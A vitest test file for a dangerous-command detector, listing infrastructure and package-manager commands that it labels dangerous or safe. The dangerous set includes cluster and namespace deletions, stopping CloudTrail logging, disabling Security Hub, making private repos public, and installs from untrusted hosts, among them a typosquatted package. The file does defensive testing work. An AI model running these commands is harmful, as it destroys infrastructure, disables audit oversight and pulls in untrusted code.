import { beforeAll, describe, expect, it } from "vitest";
import { detectDangerousCommand, initializeDetector } from "../../src/detection/index.js";
import { expectAll } from "./verdicts.js";

// Every command is only parsed; hosts, registries and repositories are reserved example names.
function keyOf(command: string): string | null {
  return detectDangerousCommand(command)?.patternKey ?? null;
}

describe("operations CLI tables", () => {
  beforeAll(async () => {
    await initializeDetector();
  });

  it("cluster provisioners: deletes and drains, wherever the global options stand", () => {
    expectAll(
      [
        "eksctl delete cluster --name prod",
        "eksctl delete cluster --name prod --wait",
        "eksctl --region us-east-1 delete nodegroup --cluster prod --name ng-1",
        "eksctl delete cluster -f cluster.yaml --disable-nodegroup-eviction",
        "eksctl drain nodegroup --cluster prod --name ng-1",
        "eksctl scale nodegroup --cluster prod --name ng-1 --nodes 0",
        "eksctl scale nodegroup --cluster=prod --name=ng-1 --nodes=0 --nodes-min=0",
        "kind delete cluster",
        "kind delete clusters --all",
        "kind delete cluster --name dev",
        "k3d cluster delete dev",
        "k3d cluster rm --all",
        "minikube delete --all --purge",
        "minikube -p dev delete",
        "kops delete cluster --name k.example.com --yes",
        "kops rolling-update cluster --yes",
        "talosctl -n 10.0.0.2 reset --graceful=false",
      ],
      "dangerous",
    );
    expectAll(
      [
        "eksctl get cluster",
        "eksctl create cluster --name dev",
        "eksctl drain nodegroup --cluster prod --name ng-1 --undo",
        "eksctl scale nodegroup --cluster prod --name ng-1 --nodes 3",
        "kind get clusters",
        "kind create cluster --name dev",
        "k3d cluster list",
        "minikube status",
        "kops get clusters",
        "kops rolling-update cluster",
      ],
      "safe",
    );
  });

  it("image registries and BigQuery", () => {
    expectAll(
      [
        "skopeo delete docker://registry.example.com/web:v1.2.3",
        "skopeo --command-timeout 30s delete docker://registry.example.com/web:v1",
        "crane delete registry.example.com/web@sha256:abc",
        "regctl tag delete registry.example.com/web:v1",
        "regctl manifest rm registry.example.com/web:v1",
        "oras manifest delete registry.example.com/web:v1",
        "bq rm -r -f -d acme-prod:analytics",
        "bq --project_id=acme-prod rm -f -t analytics.events",
        "bq rm analytics.events",
        "bq update --default_table_expiration 3600 acme:logs",
      ],
      "dangerous",
    );
    expectAll(
      [
        "skopeo inspect docker://registry.example.com/web:v1",
        "skopeo copy docker://registry.example.com/a:1 oci:./a",
        "crane ls registry.example.com/web",
        "regctl tag ls registry.example.com/web",
        "bq ls acme-prod:analytics",
        "bq show --format=prettyjson acme:logs.events",
        "bq query --use_legacy_sql=false --dry_run 'SELECT 1'",
      ],
      "safe",
    );
  });

  it("cloud state changed in place: DNS, audit logging, scale to zero, protections", () => {
    const changes = [
      "aws route53 change-resource-record-sets --hosted-zone-id Z1 --change-batch file://c.json",
      "aws --profile prod route53 change-resource-record-sets --hosted-zone-id Z1 --change-batch '{}'",
      "aws cloudtrail stop-logging --name main",
      "aws config stop-configuration-recorder --configuration-recorder-name default",
      "aws cloudwatch disable-alarm-actions --alarm-names a b",
      "aws securityhub disable-security-hub",
      "aws s3api put-bucket-versioning --bucket b --versioning-configuration Status=Suspended",
      "aws s3api put-bucket-lifecycle-configuration --bucket b --lifecycle-configuration file://l.json",
      "aws ecs update-service --cluster prod --service api --desired-count 0",
      "aws autoscaling update-auto-scaling-group --auto-scaling-group-name g --max-size 0",
      "aws autoscaling set-desired-capacity --auto-scaling-group-name g --desired-capacity 0",
      "aws lambda put-function-concurrency --function-name f --reserved-concurrent-executions 0",
      "aws rds modify-db-instance --db-instance-identifier db --no-deletion-protection",
      "aws rds modify-db-instance --db-instance-identifier db --backup-retention-period 0",
      "gcloud compute instances stop vm-1 --zone us-central1-a",
      "gcloud --project prod services disable compute.googleapis.com",
      "gcloud container clusters resize prod --num-nodes 0 --region us-central1",
      "gcloud sql instances patch db --activation-policy NEVER",
      "az vm deallocate -g rg -n vm1",
      "az webapp stop --name app --resource-group rg",
      "az aks scale -g rg -n prod --node-count 0",
      "terraform force-unlock -force 6638c4a6",
      "tofu force-unlock 6638c4a6",
      "terraform taint aws_instance.web",
      "terraform state push -force terraform.tfstate",
    ];
    for (const command of changes)
      expect(keyOf(command), command).toMatch(/^(?:cloud-state-change|infra-destroy)$/);
    expectAll(
      [
        "aws route53 list-resource-record-sets --hosted-zone-id Z1",
        "aws cloudtrail describe-trails",
        "aws ecs update-service --cluster prod --service api --desired-count 3",
        "aws autoscaling set-desired-capacity --auto-scaling-group-name g --desired-capacity 2",
        "aws s3api put-bucket-versioning --bucket b --versioning-configuration Status=Enabled",
        "aws rds modify-db-instance --db-instance-identifier db --deletion-protection",
        "aws cloudtrail stop-logging --name main --dry-run",
        "gcloud compute instances start vm-1",
        "gcloud container clusters resize prod --num-nodes 3",
        "gcloud services enable compute.googleapis.com",
        "az vm start -g rg -n vm1",
        "az aks scale -g rg -n prod --node-count 3",
        "terraform state push terraform.tfstate",
        "terraform state list",
        "terraform plan -destroy",
      ],
      "safe",
    );
  });

  it("helm --force, kubectl selectors, cordons, taints and patches", () => {
    expectAll(
      [
        "helm upgrade --install api ./chart -n prod --force --reset-values",
        "helm upgrade api ./chart -f values.yaml --force",
        "helm rollback api 3 --force",
        "helm rollback api 3",
        "helm upgrade --install api ./chart --force-replace",
        "kubectl delete pods --field-selector=status.phase=Running -n prod",
        "kubectl delete pod -l app=web",
        "kubectl -n prod delete deploy,svc --selector tier=api",
        "kubectl delete pod api-0 --grace-period=0 --force",
        "kubectl cordon node-1",
        "kubectl taint nodes node-1 key=value:NoExecute",
        'kubectl patch deploy api -p \'{"spec":{"replicas":0}}\'',
        'kubectl patch pvc data -p \'{"metadata":{"finalizers":null}}\' --type=merge',
        'kubectl patch node n1 --patch \'{"spec":{"unschedulable":true}}\'',
        'kubectl patch cronjob nightly -p \'{"spec":{"suspend":true}}\'',
        "kubectl apply -f k8s/ --force",
        "k delete ns argocd",
        "kubecolor delete namespace prod",
        "watch -n 60 kubectl delete pods --field-selector=status.phase=Running -n prod",
      ],
      "dangerous",
    );
    expectAll(
      [
        "helm upgrade --install api ./chart -n dev",
        "helm upgrade --install api ./chart -n dev --dry-run --debug",
        "helm rollback api 3 --dry-run",
        "kubectl delete pod api-7d9f8b6c4-x2k9p",
        "kubectl get pods -l app=web",
        "kubectl uncordon node-1",
        "kubectl taint nodes node-1 key=value:NoSchedule-",
        'kubectl patch deploy api -p \'{"spec":{"replicas":3}}\'',
        "kubectl delete pod -l app=web --dry-run=client",
        "k get pods -A",
        "kubecolor get pods",
      ],
      "safe",
    );
  });

  it("code hosts: exposure, admin merges, API ref moves, secrets and keys", () => {
    expectAll(
      [
        "gh repo edit acme/internal --visibility public --accept-visibility-change-consequences",
        "gh repo edit --visibility=public",
        "gh -R acme/api pr merge 482 --admin --squash --delete-branch",
        "gh pr merge 482 --admin",
        "gh repo archive acme/api --yes",
        "gh secret set DEPLOY_KEY < key.txt",
        "gh secret set API_TOKEN --body x -R acme/api",
        "gh variable set ENV --body prod",
        "gh ssh-key add ~/.ssh/id_ed25519.pub",
        "gh repo deploy-key add key.pub --allow-write",
        "gh repo sync acme/fork --force",
        "gh api -X PATCH repos/acme/api/git/refs/heads/main -f sha=abc -F force=true",
        "gh api --method PUT repos/acme/api/collaborators/someone",
        "gh api repos/acme/api/git/refs -f ref=refs/heads/x -f sha=abc",
        "gh api -X PATCH repos/acme/api -F private=false",
        "gh api -X PUT repos/acme/api/branches/main/protection --input p.json",
        "glab repo archive acme/api",
        "glab variable set TOKEN x",
        "glab api -X PUT projects/1/protected_branches/main",
        "glab repo edit --visibility public",
      ],
      "dangerous",
    );
    expectAll(
      [
        "gh repo view acme/api",
        "gh repo edit acme/api --description 'API service'",
        "gh repo edit --visibility private",
        "gh pr merge 482 --squash --delete-branch",
        "gh pr create --title x --body y",
        "gh secret list",
        "gh variable list",
        "gh api repos/acme/api/git/refs/heads/main",
        "gh api repos/acme/api/pulls --jq '.[].title'",
        "gh api -X POST repos/acme/api/issues -f title=bug",
        "glab mr list",
        "glab variable list",
      ],
      "safe",
    );
  });

  it("packages from a URL, a repository, an archive or another index; installs as root", () => {
    const untrusted = [
      "pip install git+https://github.com/example/totally-safe.git",
      "pip install --index-url http://198.51.100.23/simple/ requets",
      "pip install -i https://mirror.example.net/simple pkg",
      "pip3 install --extra-index-url https://pkgs.example.net/simple internal-lib",
      "pip install --trusted-host pkgs.example.net pkg",
      "pip install https://198.51.100.8/pkg-1.0.tar.gz",
      "pip install 'pkg @ git+https://example.com/pkg.git'",
      "npm install -g https://198.51.100.44/pkg.tgz",
      "npm i github:someone/tool",
      "npm install someone/tool",
      "npm install --registry http://198.51.100.2:4873 left-pad",
      "pnpm add git+ssh://git@example.com/x/y.git",
      "yarn global add https://example.com/t.tgz",
      "bun add github:someone/tool",
      "cargo install --git https://github.com/example/fastgrep --force",
      "gem install --source http://gems.example.net evil",
      "apt-get install -y ./downloaded-agent_1.0_amd64.deb",
      "apt install /tmp/pkg.deb",
      "apt-get install --allow-unauthenticated pkg",
      "dnf install https://example.com/x.rpm",
      "yum --nogpgcheck install pkg",
      "dpkg -i ./pkg.deb",
      "dpkg --install /tmp/x.deb",
      "rpm -Uvh https://example.com/x.rpm",
      "rpm -ivh x.rpm",
      "apk add --allow-untrusted ./x.apk",
    ];
    for (const command of untrusted)
      expect(keyOf(command), command).toBe("package-untrusted-source");
    const asRoot = [
      "sudo apt-get install -y build-essential",
      "sudo apt install nginx",
      "sudo -E pip install requests",
      "sudo npm install -g pnpm",
      "sudo dnf install -y gcc",
      "pip install --break-system-packages requests",
    ];
    for (const command of asRoot) expect(keyOf(command), command).toBe("package-system-install");
    expectAll(
      [
        "pip install -r requirements.txt",
        "pip install requests==2.32.3",
        "pip install -e .",
        "pip install --index-url https://pypi.org/simple requests",
        "pip download -d wheels requests",
        "npm install",
        "npm install --save-dev vitest",
        "npm install @scope/pkg",
        "npm install ./packages/local-lib",
        "pnpm add lodash",
        "yarn add lodash",
        "cargo install ripgrep",
        "cargo install --path .",
        "gem install bundler",
        "apt-get install -y jq",
        "brew install jq",
        "rpm -qa",
        "rpm -qi bash",
        "dpkg -l",
      ],
      "safe",
    );
  });

  it("removals: project dependencies stay the project's; global, root and bulk are held", () => {
    expectAll(
      [
        "npm uninstall -g npm",
        "npm uninstall -g typescript",
        "pnpm remove --global typescript",
        "yarn global remove left-pad",
        "sudo npm uninstall left-pad",
        "sudo pip uninstall -y requests",
        "pip uninstall -y pip setuptools",
        "pip uninstall -y -r <(pip freeze)",
        "pip uninstall -y $(pip freeze)",
        "pip uninstall -r requirements.txt -y",
        "pip uninstall --break-system-packages requests",
        "apt-get remove -y nginx",
        "brew uninstall --force git",
      ],
      "dangerous",
    );
    expectAll(
      [
        "npm uninstall lodash",
        "npm r left-pad",
        "pnpm remove lodash",
        "yarn remove lodash",
        "pip uninstall -y requests-mock",
        "pip3 uninstall mypkg-dev",
        "uv remove httpx",
        "bun remove lodash",
      ],
      "safe",
    );
  });

  it("docker-compose reads its own options before the verb", () => {
    expectAll(
      [
        "docker-compose -f docker-compose.prod.yml down --volumes",
        "docker-compose -f a.yml -p shop down -v",
        "docker-compose --project-name shop down --rmi all",
        "podman-compose -f x.yml down -v",
      ],
      "dangerous",
    );
    expectAll(
      ["docker-compose -f docker-compose.prod.yml down", "docker-compose -f x.yml ps"],
      "safe",
    );
  });
});
